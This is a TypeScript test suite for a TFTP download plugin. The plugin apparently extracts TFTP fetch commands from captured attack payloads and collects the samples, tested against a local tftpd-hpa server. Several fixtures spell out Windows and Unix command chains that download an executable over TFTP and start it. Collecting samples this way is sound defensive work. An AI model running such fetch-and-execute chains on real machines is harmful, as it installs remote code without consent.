import { randomBytes, randomInt } from 'node:crypto'
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fetchTftp, type TftpFetchOptions } from '../../src/plugins/download/tftp-client.js'
import { createTftpDownloadPlugin, TftpDownloadOptions } from '../../src/plugins/download/tftp-download.js'
import { attackOf, createTestContext, runPlugin, sha256Hex, subjectOf, type TestContextOptions } from '../helpers/plugin-harness.js'
import { startTftpd, type Tftpd } from './tftp-download-servers.js'

// Against Debian's tftpd-hpa (apt-get install tftpd-hpa), run in the foreground on loopback by each test group.

const MiB = 1024 * 1024
// Every block carries its own index, so a block delivered twice, dropped or out of order changes the bytes.
function numbered(size: number): Buffer {
  const data = randomBytes(size)
  for (let i = 0; i + 4 <= size; i += 512) data.writeUInt32BE(i / 512, i)
  return data
}

const files = {
  'small.exe': randomBytes(1_000),
  'exact.bin': randomBytes(3 * 512),
  'empty.bin': Buffer.alloc(0),
  'several.bin': numbered(5 * MiB + 77),
  // 65,538 blocks: the block number wraps after 65535 (tftpd-hpa goes on with 0, its default "rollover").
  'wrap.bin': numbered(32 * MiB + 700),
}

let dir = ''
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'tftp-download-'))
  chmodSync(dir, 0o755) // tftpd-hpa drops to "nobody" and serves world-readable files only
  for (const [name, data] of Object.entries(files)) {
    writeFileSync(join(dir, name), data)
    chmodSync(join(dir, name), 0o644)
  }
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

function fetchFrom(server: Tftpd, file: string, context: TestContextOptions = {}, extra: Partial<TftpFetchOptions> = {}): ReturnType<typeof fetchTftp> {
  const { ctx } = createTestContext(context)
  return fetchTftp({ host: server.address, port: server.port, file, downloads: ctx.downloads, signal: ctx.signal, ...extra })
}

describe.each(['127.0.0.1', '::1'])('tftpd-hpa on %s', (address) => {
  let server: Tftpd
  beforeAll(async () => {
    server = await startTftpd(dir, address)
  })
  afterAll(() => server.stop())

  it('fetches a small file', async () => {
    const result = await fetchFrom(server, 'small.exe')
    expect(result).toMatchObject({ outcome: 'ok', reason: null, address, bytes: 1_000 })
    expect(result.data).toEqual(files['small.exe'])
  })

  it('fetches a file of an exact multiple of 512 bytes (ended by an empty block) and an empty file', async () => {
    const exact = await fetchFrom(server, 'exact.bin')
    expect(exact).toMatchObject({ outcome: 'ok', bytes: 1_536 })
    expect(exact.data).toEqual(files['exact.bin'])
    const empty = await fetchFrom(server, 'empty.bin')
    expect(empty).toMatchObject({ outcome: 'ok', bytes: 0 })
    expect(empty.data).toEqual(Buffer.alloc(0))
  })

  it('a missing file is the server error it sent (ERROR 1)', async () => {
    const result = await fetchFrom(server, 'no-such-file')
    expect(result).toMatchObject({ outcome: 'server-error', address, bytes: 0, data: null })
    expect(result.reason).toMatch(/^TFTP error 1: /)
  })
})

describe('tftpd-hpa, large files', () => {
  let server: Tftpd
  beforeAll(async () => {
    server = await startTftpd(dir, '127.0.0.1')
  })
  afterAll(() => server.stop())

  it('fetches a file of several MB intact', async () => {
    const result = await fetchFrom(server, 'several.bin')
    expect(result).toMatchObject({ outcome: 'ok', bytes: files['several.bin'].length })
    expect(sha256Hex(result.data ?? Buffer.alloc(0))).toBe(sha256Hex(files['several.bin']))
  })

  it('stops at maxBytes with too-large and nothing kept', async () => {
    const result = await fetchFrom(server, 'several.bin', { policy: { maxBytes: 100_000 } })
    expect(result).toMatchObject({ outcome: 'too-large', data: null })
    expect(result.bytes).toBe(100_352) // the block that went past the cap: 196 blocks of 512
  })

  it('follows the block number round after 65535 (a file just over 32 MiB)', async () => {
    const result = await fetchFrom(server, 'wrap.bin', { policy: { maxBytes: 40 * MiB, timeoutMs: 60_000 }, timeoutMs: 60_000 })
    expect(result).toMatchObject({ outcome: 'ok', bytes: files['wrap.bin'].length })
    expect(sha256Hex(result.data ?? Buffer.alloc(0))).toBe(sha256Hex(files['wrap.bin']))
  })
})

describe('tftpDownload end to end (runPlugin)', () => {
  // A loopback address of its own, so the server can listen on port 69 as `tftp -i HOST GET FILE` needs.
  const host = `127.${randomInt(1, 255)}.${randomInt(1, 255)}.${randomInt(2, 255)}`
  let server: Tftpd
  beforeAll(async () => {
    server = await startTftpd(dir, host, 69)
  })
  afterAll(() => server.stop())
  const plugin = createTftpDownloadPlugin(TftpDownloadOptions.parse({}))

  it('fetches what a cmd chain asks for and hands the sample on', async () => {
    const payload = `cmd /c echo open & tftp -i ${host} GET small.exe & tftp.exe -i ${host} get exact.bin c:\\e.bin & start small.exe\r\n`
    const collected = await runPlugin(plugin, subjectOf(attackOf(payload)))
    expect(collected.downloads.map((d) => d.attempt)).toMatchObject([
      { url: `tftp://${host}:69/small.exe`, outcome: 'ok', reason: null, address: host, bytes: 1_000 },
      { url: `tftp://${host}:69/exact.bin`, outcome: 'ok', reason: null, address: host, bytes: 1_536 },
    ])
    expect(collected.downloads[0]?.sample).toEqual(files['small.exe'])
    expect(collected.downloads[1]?.sample).toEqual(files['exact.bin'])
  })

  it('records failures without a sample, and fetches each URL once per attack', async () => {
    const payload = `tftp -i ${host} GET missing.exe; tftp -g -r missing.exe ${host}; tftp://${host}/missing.exe`
    const collected = await runPlugin(plugin, subjectOf(attackOf(payload)))
    expect(collected.downloads).toHaveLength(1)
    expect(collected.downloads[0]?.attempt).toMatchObject({ url: `tftp://${host}:69/missing.exe`, outcome: 'server-error', address: host })
    expect(collected.downloads[0]?.sample).toBeUndefined()
  })

  it('a URL fetched lately is recorded as cached, not fetched', async () => {
    const seen: string[] = []
    const history = { find: () => [], recentDownload: (url: string) => (seen.push(url), 'ab'.repeat(32)) }
    const collected = await runPlugin(plugin, subjectOf(attackOf(`tftp -i ${host} GET small.exe`)), { history })
    expect(seen).toEqual([`tftp://${host}:69/small.exe`])
    expect(collected.downloads).toEqual([{ attempt: expect.objectContaining({ outcome: 'cached', address: null, bytes: 0 }), sample: undefined }])
  })

  it('never contacts an address the policy refuses', async () => {
    const collected = await runPlugin(plugin, subjectOf(attackOf('tftp -i 10.1.2.3 GET x.exe & tftp -i 169.254.169.254 GET y')))
    expect(collected.downloads.map((d) => [d.attempt.outcome, d.attempt.address])).toEqual([['refused', null], ['refused', null]])
  })

  it('does nothing for a payload without a tftp fetch', async () => {
    const collected = await runPlugin(plugin, subjectOf(attackOf('GET / HTTP/1.1\r\nHost: tftp\r\n\r\n')))
    expect(collected.downloads).toEqual([])
  })
})
